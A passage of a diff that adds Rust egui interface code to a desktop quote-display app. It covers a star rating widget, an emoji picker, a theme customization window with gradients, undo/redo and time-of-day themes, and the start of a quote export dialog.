+        (h, 0, 0) if h > 0 => format!("{}h", h),
+        (0, m, 0) if m > 0 => format!("{}m", m),
+        (0, 0, s) => format!("{}s", s),
+        (0, m, s) => format!("{}m{}s", m, s),
+        _ => format!("{}s", secs),
+    }
+}
+
+/// Row of clickable stars; returns the new rating when one was clicked
+fn star_rating(ui: &mut egui::Ui, rating: u8, color: Color32) -> Option<u8> {
+    let mut picked = None;
+    ui.horizontal(|ui| {
+        ui.spacing_mut().item_spacing.x = 1.0;
+        for star in 1..=MAX_RATING {
+            let (glyph, tint) = if star <= rating {
+                ("★", color)
+            } else {
+                ("☆", Color32::GRAY)
+            };
+            let resp = ui
+                .add(
+                    egui::Label::new(RichText::new(glyph).color(tint).size(10.0))
+                        .sense(egui::Sense::click()),
+                )
+                .on_hover_cursor(egui::CursorIcon::PointingHand);
+            if resp.clicked() {
+                picked = Some(star);
+            }
+        }
+    });
+    picked
+}
+
+/// Open/closed state of the control panel sections by key; a missing key is open
+type SectionStates = HashMap<String, bool>;
+
+/// Render a section with title. Clicking the title row folds the section
+/// away (animated), leaving the title and `summary` when there is one.
+fn render_section(
+    ui: &mut egui::Ui,
+    sections: &mut SectionStates,
+    key: &str,
+    title: &str,
+    summary: Option<String>,
+    accents: Accents,
+    add_contents: impl FnOnce(&mut egui::Ui),
+) {
+    let open = sections.get(key).copied().unwrap_or(true);
+    let mut collapsing = egui::collapsing_header::CollapsingState::load_with_default_open(
+        ui.ctx(),
+        ui.make_persistent_id(("section", key)),
+        open,
+    );
+    collapsing.set_open(open);
+
+    // Outer frame with relative darkening and faint accent glow
+    egui::Frame::none()
+        .fill(Color32::from_black_alpha(20))
+        .stroke(Stroke::new(1.0, accents.primary.gamma_multiply(0.25)))
+        .inner_margin(egui::Margin::same(1.0))
+        .rounding(Rounding::same(10.0))
+        .show(ui, |ui| {
+            // Inner subtle depth
+            egui::Frame::none()
+                .fill(Color32::from_black_alpha(13))
+                .stroke(Stroke::new(0.5, Color32::from_white_alpha(12)))
+                .inner_margin(egui::Margin {
+                    left: 12.0,
+                    right: 12.0,
+                    top: 10.0,
+                    bottom: 12.0,
+                })
+                .rounding(Rounding::same(9.0))
+                .show(ui, |ui| {
+                    // Section title row with decorative line
+                    let header = ui.horizontal(|ui| {
+                        // Left accent mark
+                        let (mark_rect, _) =
+                            ui.allocate_exact_size(Vec2::new(3.0, 12.0), Sense::hover());
+                        ui.painter()
+                            .rect_filled(mark_rect, Rounding::same(2.0), accents.secondary);
+
+                        ui.add_space(2.0);
+
+                        label_with_glow(
+                            ui,
+                            title,
+                            accents.secondary,
+                            10.0,
+                            accents.secondary.gamma_multiply(0.4),
+                            egui::Align2::LEFT_CENTER,
+                        );
+                        if let Some(summary) = summary.filter(|_| !open) {
+                            ui.label(
+                                RichText::new(format!("— {}", summary))
+                                    .color(Color32::GRAY)
+                                    .size(9.5),
+                            );
+                        }
+
+                        // Trailing separator line (subtle horizontal), then the fold chevron
+                        let avail = ui.available_width() - 14.0;
+                        if avail > 4.0 {
+                            let (line_rect, _) =
+                                ui.allocate_exact_size(Vec2::new(avail - 2.0, 1.0), Sense::hover());
+                            let mid_y = line_rect.center().y;
+                            ui.painter().line_segment(
+                                [
+                                    egui::pos2(line_rect.left(), mid_y),
+                                    egui::pos2(line_rect.right(), mid_y),
+                                ],
+                                Stroke::new(0.5, accents.secondary.gamma_multiply(0.17)),
+                            );
+                        }
+                        ui.label(
+                            RichText::new(if open { "▾" } else { "▸" })
+                                .color(accents.secondary.gamma_multiply(0.6))
+                                .size(10.0),
+                        );
+                    });
+                    let header = header
+                        .response
+                        .interact(Sense::click())
+                        .on_hover_cursor(egui::CursorIcon::PointingHand);
+                    if header.clicked() {
+                        sections.insert(key.to_string(), !open);
+                        collapsing.set_open(!open);
+                    }
+
+                    collapsing.show_body_unindented(ui, |ui| {
+                        ui.add_space(8.0);
+                        add_contents(ui);
+                    });
+                });
+        });
+}
+
+// =============================================================================
+// EMOJI PICKER
+// =============================================================================
+
+/// Curated emoji for quotes, by group. Single code points only, so the
+/// glyph check below is reliable
+const EMOJI_GROUPS: [(&str, &[&str]); 4] = [
+    (
+        "Faces",
+        &[
+            "😀", "😄", "😁", "😊", "😇", "🙂", "😉", "😍", "🤩", "😎", "🤓", "🥳", "😤", "🙌",
+            "👍",
+        ],
+    ),
+    (
+        "Fire & energy",
+        &[
+            "🔥", "⚡", "💥", "🚀", "💪", "🏆", "🥇", "🎯", "⭐", "🌟", "✨", "💫", "🏃", "🧠",
+            "⏰",
+        ],
+    ),
+    (
+        "Nature",
+        &[
+            "🌱", "🌿", "🍀", "🌳", "🌸", "🌻", "🌼", "🌈", "🌊", "🌙", "🌞", "⛰", "🌍", "🦋", "🐝",
+        ],
+    ),
+    (
+        "Symbols",
+        &[
+            "❤", "💙", "💚", "💛", "💜", "✅", "✔", "➡", "🔔", "💡", "📌", "📚", "🎉", "♾", "☀",
+        ],
+    ),
+];
+
+/// Popup grid of emoji; recently used ones first. Emoji the loaded fonts
+/// can't draw are left out rather than shown as tofu
+fn render_emoji_picker(ui: &mut egui::Ui, state: &mut AppState) {
+    let font_id = FontId::proportional(16.0);
+    ui.set_max_width(240.0);
+
+    let recent: Vec<&str> = state.recent_emoji.iter().map(String::as_str).collect();
+    let mut picked = emoji_grid(ui, "Recent", &recent, &font_id);
+    for (title, emoji) in EMOJI_GROUPS {
+        picked = emoji_grid(ui, title, emoji, &font_id).or(picked);
+    }
+
+    if let Some(emoji) = picked {
+        insert_into_last_input(ui.ctx(), state, &emoji);
+        state.recent_emoji.retain(|e| *e != emoji);
+        state.recent_emoji.insert(0, emoji);
+        state.recent_emoji.truncate(RECENT_EMOJI_LIMIT);
+        state.save();
+    }
+}
+
+/// One titled group of the emoji picker; returns the emoji clicked, if any
+fn emoji_grid(ui: &mut egui::Ui, title: &str, emoji: &[&str], font_id: &FontId) -> Option<String> {
+    let drawable: Vec<&str> = emoji
+        .iter()
+        .copied()
+        .filter(|e| ui.fonts(|f| f.has_glyphs(font_id, e)))
+        .collect();
+    if drawable.is_empty() {
+        return None;
+    }
+
+    let mut picked = None;
+    ui.label(RichText::new(title).color(Color32::GRAY).size(10.0));
+    ui.horizontal_wrapped(|ui| {
+        ui.spacing_mut().item_spacing = Vec2::new(2.0, 2.0);
+        for e in drawable {
+            if ui
+                .add(egui::Button::new(RichText::new(e).font(font_id.clone())).frame(false))
+                .clicked()
+            {
+                picked = Some(e.to_string());
+            }
+        }
+    });
+    ui.add_space(4.0);
+    picked
+}
+
+/// Insert text at the cursor of the input that last had focus (the sub
+/// text by default) and put the cursor after it
+fn insert_into_last_input(ctx: &Context, state: &mut AppState, text: &str) {
+    let main_id = state.main_text_input_id;
+    let id = state
+        .last_text_input
+        .unwrap_or_else(|| egui::Id::new(SUB_TEXT_INPUT_ID));
+    let buffer = if id == main_id {
+        &mut state.main_text_input
+    } else {
+        &mut state.sub_text_input
+    };
+
+    let mut edit_state = egui::TextEdit::load_state(ctx, id).unwrap_or_default();
+    let len = buffer.chars().count();
+    let at = edit_state
+        .cursor
+        .char_range()
+        .map_or(len, |range| range.primary.index.min(len));
+    let byte = buffer
+        .char_indices()
+        .nth(at)
+        .map_or(buffer.len(), |(b, _)| b);
+    buffer.insert_str(byte, text);
+
+    let cursor = egui::text::CCursor::new(at + text.chars().count());
+    edit_state
+        .cursor
+        .set_char_range(Some(egui::text::CCursorRange::one(cursor)));
+    edit_state.store(ctx, id);
+    ctx.memory_mut(|m| m.request_focus(id));
+}
+
+// =============================================================================
+// THEME MODAL RENDERER
+// =============================================================================
+
+/// Render the theme customization modal
+pub fn render_theme_modal(ctx: &Context, state: &mut AppState) {
+    if !state.theme_modal_open {
+        if !state.theme_history.is_empty() {
+            state.theme_history.clear();
+        }
+        return;
+    }
+    if state.theme_history.is_empty() {
+        let snapshot = state.theme_snapshot();
+        state.theme_history.begin(snapshot);
+    }
+
+    // Ctrl+Z / Ctrl+Y, unless a text field has the keyboard
+    if !ctx.wants_keyboard_input() {
+        let (undo, redo) = ctx.input_mut(|i| {
+            (
+                i.consume_key(egui::Modifiers::COMMAND, egui::Key::Z),
+                i.consume_key(egui::Modifiers::COMMAND, egui::Key::Y),
+            )
+        });
+        if undo {
+            state.undo_theme();
+        } else if redo {
+            state.redo_theme();
+        }
+    }
+
+    egui::Window::new("Customize Theme")
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::new(0.0, 0.0))
+        .fixed_size(Vec2::new(400.0, 500.0))
+        .frame(egui::Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            egui::ScrollArea::vertical()
+                .max_height(420.0)
+                .auto_shrink([false, true])
+                .show(ui, |ui| {
+                    render_theme_band_status(ui, state);
+
+                    // Mode toggle
+                    ui.horizontal(|ui| {
+                        ui.label(RichText::new("Mode:").color(ui_fg(ui.visuals())).size(12.0));
+
+                        let gradient_selected = state.theme.mode == ThemeMode::Gradient;
+                        let solid_selected = state.theme.mode == ThemeMode::Solid;
+
+                        if ui.selectable_label(gradient_selected, "Gradient").clicked() {
+                            state.theme.mode = ThemeMode::Gradient;
+                            state.save();
+                        }
+                        if ui.selectable_label(solid_selected, "Solid").clicked() {
+                            state.theme.mode = ThemeMode::Solid;
+                            state.save();
+                        }
+                    });
+
+                    ui.add_space(10.0);
+
+                    ui.horizontal(|ui| {
+                        if ui
+                            .checkbox(
+                                &mut state.theme.apply_to_entire_window,
+                                "Apply to Entire Window",
+                            )
+                            .changed()
+                        {
+                            state.save();
+                        }
+                    });
+
+                    ui.add_space(10.0);
+
+                    ui.horizontal(|ui| {
+                        ui.label(
+                            RichText::new("Backdrop:")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        );
+                        for effect in BackdropEffect::ALL {
+                            if ui
+                                .selectable_value(&mut state.theme.backdrop, effect, effect.label())
+                                .changed()
+                            {
+                                state.save();
+                            }
+                        }
+                    });
+                    if state.theme.backdrop != BackdropEffect::None && !state.backdrop_active {
+                        let note = if state.is_3d_bg_active || state.bg_spawned_at.is_some() {
+                            "Paused while the 3D background is on"
+                        } else {
+                            "Not available on this system; using the normal background"
+                        };
+                        ui.label(RichText::new(note).color(Color32::GRAY).size(10.5));
+                    }
+
+                    ui.add_space(15.0);
+
+                    if state.theme.mode == ThemeMode::Gradient {
+                        // Gradient angle
+                        ui.label(
+                            RichText::new("Gradient Angle:")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        );
+                        ui.add_space(5.0);
+
+                        // The background previews live; settings are written on release
+                        ui.horizontal(|ui| {
+                            let dial = angle_dial(ui, &mut state.theme.gradient_angle, 36.0);
+                            if dial.drag_stopped() || (dial.clicked() && dial.changed()) {
+                                state.save();
+                            }
+
+                            ui.add_space(10.0);
+                            ui.vertical(|ui| {
+                                ui.add_space(18.0);
+                                let drag = ui.add(
+                                    egui::DragValue::new(&mut state.theme.gradient_angle)
+                                        .range(0..=359)
+                                        .suffix("°"),
+                                );
+                                if drag.drag_stopped() || (drag.changed() && !drag.dragged()) {
+                                    state.save();
+                                }
+                                ui.label(
+                                    RichText::new("Shift: snap to 15°")
+                                        .color(Color32::GRAY)
+                                        .size(10.0),
+                                );
+                            });
+                        });
+
+                        ui.add_space(15.0);
+
+                        // Gradient colors
+                        ui.label(
+                            RichText::new("Gradient Colors:")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        );
+                        ui.add_space(5.0);
+
+                        let mut to_remove = None;
+                        for idx in 0..state.theme.gradient_colors.len() {
+                            ui.horizontal(|ui| {
+                                ui.label(
+                                    RichText::new(format!("Color {}:", idx + 1))
+                                        .color(Color32::GRAY)
+                                        .size(11.0),
+                                );
+
+                                // Color picker (RGBA format)
+                                let color = state.theme.gradient_colors[idx];
+                                let mut color_array = [
+                                    color.r() as f32 / 255.0,
+                                    color.g() as f32 / 255.0,
+                                    color.b() as f32 / 255.0,
+                                    1.0,
+                                ];
+                                if ui
+                                    .color_edit_button_rgba_unmultiplied(&mut color_array)
+                                    .changed()
+                                {
+                                    state.theme.gradient_colors[idx] = Color32::from_rgb(
+                                        (color_array[0] * 255.0) as u8,
+                                        (color_array[1] * 255.0) as u8,
+                                        (color_array[2] * 255.0) as u8,
+                                    );
+                                    state.save();
+                                }
+
+                                // Remove button (only when > 2 colors)
+                                if state.theme.gradient_colors.len() > 2 {
+                                    let remove_btn = ui.add(
+                                        egui::Button::new(
+                                            RichText::new("Remove")
+                                                .color(Color32::WHITE)
+                                                .size(10.0),
+                                        )
+                                        .fill(Color32::from_rgb(255, 70, 70)),
+                                    );
+                                    if remove_btn.clicked() {
+                                        to_remove = Some(idx);
+                                    }
+                                }
+                            });
+                        }
+
+                        if let Some(idx) = to_remove {
+                            state.theme.gradient_colors.remove(idx);
+                            state.save();
+                        }
+
+                        // Add color button
+                        if state.theme.gradient_colors.len() < 5
+                            && ui.button("+ Add Color").clicked()
+                        {
+                            state.theme.gradient_colors.push(Color32::WHITE);
+                            state.save();
+                        }
+
+                        ui.add_space(10.0);
+
+                        // Blend space, with a strip showing what it does to the stops
+                        ui.horizontal(|ui| {
+                            ui.label(RichText::new("Blend in:").color(Color32::GRAY).size(11.0));
+                            for option in GradientInterpolation::ALL {
+                                if ui
+                                    .selectable_value(
+                                        &mut state.theme.gradient_interpolation,
+                                        option,
+                                        option.label(),
+                                    )
+                                    .changed()
+                                {
+                                    state.save();
+                                }
+                            }
+                        });
+                        let (strip, _) = ui.allocate_exact_size(
+                            Vec2::new(ui.available_width().min(260.0), 14.0),
+                            Sense::hover(),
+                        );
+                        let steps = 48;
+                        let painter = ui.painter_at(strip);
+                        for i in 0..steps {
+                            let t = i as f32 / (steps - 1) as f32;
+                            let x0 = strip.left() + strip.width() * i as f32 / steps as f32;
+                            let x1 = strip.left() + strip.width() * (i + 1) as f32 / steps as f32;
+                            painter.rect_filled(
+                                Rect::from_x_y_ranges(x0..=x1 + 0.5, strip.y_range()),
+                                Rounding::ZERO,
+                                gradient_color_at(
+                                    &state.theme.gradient_colors,
+                                    t,
+                                    state.theme.gradient_interpolation,
+                                ),
+                            );
+                        }
+
+                        ui.add_space(15.0);
+
+                        // Presets
+                        ui.label(
+                            RichText::new("Preset Gradients:")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        );
+                        ui.add_space(5.0);
+
+                        // Preset buttons, two per row; each also sets matching accents
+                        for row in GRADIENT_PRESETS.chunks(2) {
+                            ui.horizontal_wrapped(|ui| {
+                                for (name, colors, primary, secondary) in row {
+                                    if ui.button(*name).clicked() {
+                                        state.theme.gradient_colors = colors.to_vec();
+                                        state.theme.accent_primary = *primary;
+                                        state.theme.accent_secondary = *secondary;
+                                        state.save();
+                                    }
+                                }
+                            });
+                        }
+                    } else {
+                        // Solid color
+                        ui.label(
+                            RichText::new("Solid Color:")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        );
+                        ui.add_space(5.0);
+
+                        let solid = state.theme.solid_color;
+                        let mut color_array = [
+                            solid.r() as f32 / 255.0,
+                            solid.g() as f32 / 255.0,
+                            solid.b() as f32 / 255.0,
+                            1.0,
+                        ];
+                        if ui
+                            .color_edit_button_rgba_unmultiplied(&mut color_array)
+                            .changed()
+                        {
+                            state.theme.solid_color = Color32::from_rgb(
+                                (color_array[0] * 255.0) as u8,
+                                (color_array[1] * 255.0) as u8,
+                                (color_array[2] * 255.0) as u8,
+                            );
+                            state.save();
+                        }
+                    }
+
+                    ui.add_space(15.0);
+
+                    // Accent colors for the window chrome
+                    ui.label(
+                        RichText::new("Accent Colors:")
+                            .color(ui_fg(ui.visuals()))
+                            .size(12.0),
+                    );
+                    ui.add_space(5.0);
+
+                    let mut accent_changed = false;
+                    ui.horizontal(|ui| {
+                        for (label, accent) in [
+                            ("Primary:", &mut state.theme.accent_primary),
+                            ("Secondary:", &mut state.theme.accent_secondary),
+                        ] {
+                            ui.label(RichText::new(label).color(Color32::GRAY).size(11.0));
+                            accent_changed |= ui.color_edit_button_srgba(accent).changed();
+                            ui.add_space(10.0);
+                        }
+                    });
+                    if accent_changed {
+                        state.save();
+                    }
+
+                    ui.horizontal(|ui| {
+                        if ui
+                            .checkbox(&mut state.theme.follow_system, "Follow system")
+                            .on_hover_text("Use the Windows light/dark mode and accent color")
+                            .changed()
+                        {
+                            state.apply_system_theme();
+                            state.save();
+                        }
+                        if state.theme.follow_system && state.system_theme.is_none() {
+                            ui.label(
+                                RichText::new("(not available here)")
+                                    .color(Color32::GRAY)
+                                    .size(10.0),
+                            );
+                        }
+                    });
+
+                    ui.add_space(15.0);
+
+                    // Display-only casing and letter spacing
+                    ui.label(
+                        RichText::new("Text Transform:")
+                            .color(ui_fg(ui.visuals()))
+                            .size(12.0),
+                    );
+                    ui.add_space(5.0);
+
+                    let mut transform_changed = false;
+                    for (label, salt, transform) in [
+                        (
+                            "Main:",
+                            "main_transform",
+                            &mut state.text_style.main_transform,
+                        ),
+                        ("Sub:", "sub_transform", &mut state.text_style.sub_transform),
+                    ] {
+                        ui.horizontal(|ui| {
+                            ui.label(RichText::new(label).color(Color32::GRAY).size(11.0));
+                            egui::ComboBox::from_id_salt(salt)
+                                .selected_text(transform.label())
+                                .show_ui(ui, |ui| {
+                                    for option in TextTransform::ALL {
+                                        transform_changed |= ui
+                                            .selectable_value(
+                                                &mut *transform,
+                                                option,
+                                                option.label(),
+                                            )
+                                            .changed();
+                                    }
+                                });
+                        });
+                    }
+                    ui.horizontal(|ui| {
+                        ui.label(
+                            RichText::new("Letter spacing:")
+                                .color(Color32::GRAY)
+                                .size(11.0),
+                        );
+                        let slider = ui.add(
+                            egui::Slider::new(
+                                &mut state.text_style.main_letter_spacing,
+                                0.0..=10.0,
+                            )
+                            .step_by(0.5),
+                        );
+                        transform_changed |=
+                            slider.drag_stopped() || (slider.changed() && !slider.dragged());
+                    });
+                    if transform_changed {
+                        state.save();
+                    }
+
+                    ui.add_space(15.0);
+
+                    // Bilingual quotes: where the translation goes
+                    ui.horizontal(|ui| {
+                        ui.label(
+                            RichText::new("Translation:")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        );
+                        let mut display = state.text_style.translation_display;
+                        egui::ComboBox::from_id_salt("translation_display")
+                            .selected_text(display.label())
+                            .show_ui(ui, |ui| {
+                                for option in TranslationDisplay::ALL {
+                                    ui.selectable_value(&mut display, option, option.label());
+                                }
+                            });
+                        if display != state.text_style.translation_display {
+                            state.text_style.translation_display = display;
+                            state.save();
+                        }
+                    });
+
+                    ui.add_space(15.0);
+
+                    // Text shadow for readability on light backgrounds
+                    ui.label(
+                        RichText::new("Text Shadow:")
+                            .color(ui_fg(ui.visuals()))
+                            .size(12.0),
+                    );
+                    ui.add_space(5.0);
+
+                    let mut shadow_on = state.text_style.text_shadow.is_some();
+                    if ui.checkbox(&mut shadow_on, "Enabled").changed() {
+                        state.text_style.text_shadow = shadow_on.then(ShadowStyle::default);
+                        state.save();
+                    }
+                    if let Some(shadow) = state.text_style.text_shadow.as_mut() {
+                        let mut shadow_changed = false;
+                        ui.horizontal(|ui| {
+                            ui.label(RichText::new("Color:").color(Color32::GRAY).size(11.0));
+                            shadow_changed |=
+                                ui.color_edit_button_srgba(&mut shadow.color).changed();
+                        });
+                        let mut commit = false;
+                        for (label, value) in
+                            [("X:", &mut shadow.offset.x), ("Y:", &mut shadow.offset.y)]
+                        {
+                            ui.horizontal(|ui| {
+                                ui.label(RichText::new(label).color(Color32::GRAY).size(11.0));
+                                let slider =
+                                    ui.add(egui::Slider::new(value, -6.0..=6.0).step_by(0.5));
+                                commit |= slider.drag_stopped()
+                                    || (slider.changed() && !slider.dragged());
+                            });
+                        }
+                        ui.horizontal(|ui| {
+                            ui.label(RichText::new("Softness:").color(Color32::GRAY).size(11.0));
+                            let slider =
+                                ui.add(egui::Slider::new(&mut shadow.blur_like_layers, 0..=4));
+                            commit |=
+                                slider.drag_stopped() || (slider.changed() && !slider.dragged());
+                        });
+                        if shadow_changed || commit {
+                            state.save();
+                        }
+                    }
+
+                    ui.add_space(15.0);
+                    render_theme_bands(ui, state);
+                    ui.add_space(15.0);
+
+                    // Clock overlay
+                    ui.label(
+                        RichText::new("Clock Overlay:")
+                            .color(ui_fg(ui.visuals()))
+                            .size(12.0),
+                    );
+                    ui.add_space(5.0);
+
+                    let mut clock_changed = false;
+                    ui.horizontal_wrapped(|ui| {
+                        clock_changed |= ui.checkbox(&mut state.clock.enabled, "Show").changed();
+                        clock_changed |= ui.checkbox(&mut state.clock.use_24h, "24h").changed();
+                        clock_changed |= ui
+                            .checkbox(&mut state.clock.show_seconds, "Seconds")
+                            .changed();
+                        clock_changed |= ui.checkbox(&mut state.clock.show_date, "Date").changed();
+                    });
+                    ui.horizontal(|ui| {
+                        ui.label(RichText::new("Corner:").color(Color32::GRAY).size(11.0));
+                        egui::ComboBox::from_id_salt("clock_corner")
+                            .selected_text(state.clock.corner.label())
+                            .show_ui(ui, |ui| {
+                                for corner in ScreenCorner::ALL {
+                                    clock_changed |= ui
+                                        .selectable_value(
+                                            &mut state.clock.corner,
+                                            corner,
+                                            corner.label(),
+                                        )
+                                        .changed();
+                                }
+                            });
+                    });
+                    ui.horizontal(|ui| {
+                        ui.label(RichText::new("Size:").color(Color32::GRAY).size(11.0));
+                        clock_changed |= ui
+                            .add(egui::Slider::new(&mut state.clock.size, 10.0..=48.0).step_by(1.0))
+                            .changed();
+                    });
+                    if clock_changed {
+                        state.save();
+                    }
+                });
+
+            ui.add_space(20.0);
+
+            // Action buttons
+            ui.horizontal(|ui| {
+                if ui
+                    .button(
+                        RichText::new("Apply Theme")
+                            .color(ui_fg(ui.visuals()))
+                            .size(12.0),
+                    )
+                    .clicked()
+                {
+                    state.theme_modal_open = false;
+                }
+
+                if ui
+                    .button(RichText::new("Reset").color(ui_fg(ui.visuals())).size(12.0))
+                    .clicked()
+                {
+                    state.theme = ThemeConfig::default();
+                    state.save();
+                }
+
+                ui.add_space(8.0);
+                if ui
+                    .add_enabled(
+                        state.theme_history.can_undo(),
+                        egui::Button::new(
+                            RichText::new("↶ Undo")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        ),
+                    )
+                    .on_hover_text("Ctrl+Z")
+                    .clicked()
+                {
+                    state.undo_theme();
+                }
+                if ui
+                    .add_enabled(
+                        state.theme_history.can_redo(),
+                        egui::Button::new(
+                            RichText::new("↷ Redo")
+                                .color(ui_fg(ui.visuals()))
+                                .size(12.0),
+                        ),
+                    )
+                    .on_hover_text("Ctrl+Y")
+                    .clicked()
+                {
+                    state.redo_theme();
+                }
+
+                if ui
+                    .button(RichText::new("✕").color(ui_fg(ui.visuals())).size(14.0))
+                    .clicked()
+                {
+                    state.theme_modal_open = false;
+                }
+            });
+        });
+
+    // Snapshot committed edits; live previews (dial drags, open color pickers)
+    // settle first so one gesture becomes one undo step
+    if !ctx.input(|i| i.pointer.any_down()) {
+        let snapshot = state.theme_snapshot();
+        state.theme_history.record(snapshot);
+    }
+}
+
+fn fmt_minute_of_day(minutes: u32) -> String {
+    format!("{:02}:{:02}", minutes / 60, minutes % 60)
+}
+
+/// The active time-of-day band, and the choice to make once the theme it
+/// put on screen is edited (the edit would be gone at the next band)
+fn render_theme_band_status(ui: &mut egui::Ui, state: &mut AppState) {
+    let Some(idx) = state.active_theme_band.filter(|_| state.theme_automation) else {
+        return;
+    };
+    let band = &state.theme_bands[idx];
+    let shown = if state.theme_band_in_effect() == Some(idx) {
+        "its theme is showing"
+    } else if band.theme.is_some() {
+        "the active profile's theme takes precedence"
+    } else {
+        "no theme of its own, the global one is showing"
+    };
+    ui.label(
+        RichText::new(format!(
+            "🕒 {} ({}–{}): {}",
+            band.name,
+            fmt_minute_of_day(band.start_minute),
+            fmt_minute_of_day(theme_band_end(&state.theme_bands, idx)),
+            shown
+        ))
+        .color(Color32::GRAY)
+        .size(11.0),
+    );
+
+    if state.edited_theme_band().is_some() {
+        let name = band.name.clone();
+        ui.add_space(4.0);
+        egui::Frame::none()
+            .fill(Color32::from_black_alpha(60))
+            .stroke(Stroke::new(1.0, Color32::from_rgb(255, 200, 100)))
+            .inner_margin(Vec2::new(8.0, 6.0))
+            .rounding(Rounding::same(4.0))
+            .show(ui, |ui| {
+                ui.label(
+                    RichText::new(
+                        "The theme changed while time-of-day themes are on. \
+                         Disable automation, or save this as the band's theme?",
+                    )
+                    .color(ui_fg(ui.visuals()))
+                    .size(11.0),
+                );
+                ui.horizontal(|ui| {
+                    if ui
+                        .button("Disable automation")
+                        .on_hover_text("Keep this theme as the global one")
+                        .clicked()
+                    {
+                        state.stop_theme_automation();
+                    }
+                    if ui.button(format!("Save for {name}")).clicked() {
+                        state.save_theme_for_band();
+                    }
+                });
+            });
+    }
+    ui.add_space(10.0);
+}
+
+/// "Theme by time of day": the switch, and per band its start and theme
+fn render_theme_bands(ui: &mut egui::Ui, state: &mut AppState) {
+    ui.label(
+        RichText::new("Time of Day:")
+            .color(ui_fg(ui.visuals()))
+            .size(12.0),
+    );
+    ui.add_space(5.0);
+
+    let mut changed = ui
+        .checkbox(&mut state.theme_automation, "Theme by time of day")
+        .on_hover_text("Each band switches to its theme when it starts; checked once a minute")
+        .changed();
+    if state.theme_automation {
+        egui::Grid::new("theme_bands")
+            .num_columns(3)
+            .spacing(Vec2::new(8.0, 4.0))
+            .show(ui, |ui| {
+                for idx in 0..state.theme_bands.len() {
+                    let active = state.active_theme_band == Some(idx);
+                    let band = &mut state.theme_bands[idx];
+                    let color = if active {
+                        NEON_CYAN
+                    } else {
+                        ui_fg(ui.visuals())
+                    };
+                    ui.label(RichText::new(&band.name).color(color).size(11.0));
+                    ui.horizontal(|ui| {
+                        changed |= minute_of_day_edit(ui, &mut band.start_minute);
+                    });
+                    ui.horizontal(|ui| {
+                        let theme_label = if band.theme.is_some() {
+                            "Own theme"
+                        } else {
+                            "Global"
+                        };
+                        ui.label(RichText::new(theme_label).color(Color32::GRAY).size(10.5));
+                        if ui
+                            .small_button("Use current")
+                            .on_hover_text("Store the theme on screen for this band")
+                            .clicked()
+                        {
+                            band.theme = Some(state.theme.clone());
+                            changed = true;
+                        }
+                        if band.theme.is_some() && ui.small_button("Clear").clicked() {
+                            band.theme = None;
+                            changed = true;
+                        }
+                    });
+                    ui.end_row();
+                }
+            });
+    }
+    if changed {
+        state.refresh_theme_band();
+        state.save();
+    }
+}
+
+/// Circular angle picker: drag around the ring for 0–359°, Shift snaps to 15°.
+/// The value changes while dragging; persist on `drag_stopped()`.
+fn angle_dial(ui: &mut egui::Ui, angle: &mut i32, radius: f32) -> egui::Response {
+    let (rect, mut response) =
+        ui.allocate_exact_size(Vec2::splat(radius * 2.0 + 12.0), Sense::click_and_drag());
+    let center = rect.center();
+
+    if response.dragged() || response.clicked() {
+        if let Some(pos) = response.interact_pointer_pos() {
+            let v = pos - center;
+            if v.length() > 2.0 {
+                // Same convention as the gradient: 0° points right, 90° points down
+                let mut degrees = v.y.atan2(v.x).to_degrees().round() as i32;
+                if ui.input(|i| i.modifiers.shift) {
+                    degrees = (degrees as f32 / 15.0).round() as i32 * 15;
+                }
+                let degrees = degrees.rem_euclid(360);
+                if degrees != *angle {
+                    *angle = degrees;
+                    response.mark_changed();
+                }
+            }
+        }
+    }
+
+    let painter = ui.painter();
+    let active = response.hovered() || response.dragged();
+    let ring = if active {
+        NEON_CYAN
+    } else {
+        NEON_CYAN.gamma_multiply(0.5)
+    };
+    painter.circle_filled(center, radius, ui_shade(ui.visuals(), 60));
+    painter.circle_stroke(center, radius, Stroke::new(2.0, ring));
+    for tick in 0..8 {
+        let a = (tick as f32 * 45.0).to_radians();
+        let dir = Vec2::new(a.cos(), a.sin());
+        painter.line_segment(
+            [center + dir * (radius - 5.0), center + dir * radius],
+            Stroke::new(1.0, Color32::from_white_alpha(80)),
+        );
+    }
+
+    let a = (*angle as f32).to_radians();
+    let dir = Vec2::new(a.cos(), a.sin());
+    painter.line_segment(
+        [center, center + dir * (radius - 6.0)],
+        Stroke::new(1.5, NEON_CYAN),
+    );
+    painter.circle_filled(
+        center + dir * radius,
+        if active { 6.0 } else { 5.0 },
+        NEON_CYAN,
+    );
+    painter.text(
+        center,
+        egui::Align2::CENTER_CENTER,
+        format!("{}°", angle),
+        FontId::proportional(12.0),
+        ui_fg(ui.visuals()),
+    );
+
+    response.on_hover_text("Drag to set the gradient angle (Shift snaps to 15°)")
+}
+
+// =============================================================================
+// QUOTE EXPORT / IMPORT
+// =============================================================================
+
+/// Dialog choosing between exporting the active collection or all of them
+pub fn render_export_window(ctx: &Context, state: &mut AppState) {
+    if !state.export_open {
+        return;
+    }
+
+    let mut open = true;
+    let mut export_clicked = false;
+    egui::Window::new("Export Quotes")
+        .open(&mut open)
+        .collapsible(false)
+        .resizable(false)
+        .anchor(egui::Align2::CENTER_CENTER, Vec2::ZERO)
+        .frame(Frame::window(&ctx.style()).fill(Color32::from_white_alpha(15)))
+        .show(ctx, |ui| {
+            let current = format!(
+                "Current collection ({})",
+                state.collections[state.active_collection].name
+            );
+            ui.radio_value(&mut state.export_all_collections, false, current);
+            ui.radio_value(&mut state.export_all_collections, true, "All collections");
+            ui.add_space(6.0);
+            ui.checkbox(
+                &mut state.export_include_archived,
+                format!("Include archived quotes ({})", state.archived.len()),
+            );
+            ui.add_space(10.0);
+            if ui.button("Export…").clicked() {
+                export_clicked = true;
+            }
+        });
+
+    if !open {
+        state.export_open = false;
+    }
+    if !export_clicked {
+        return;
+    }
+
+    let Some(path) = rfd::FileDialog::new()
+        .add_filter("JSON", &["json"])
+        .set_file_name("quotes_export.json")
+        .save_file()
+    else {
+        return;
+    };
+
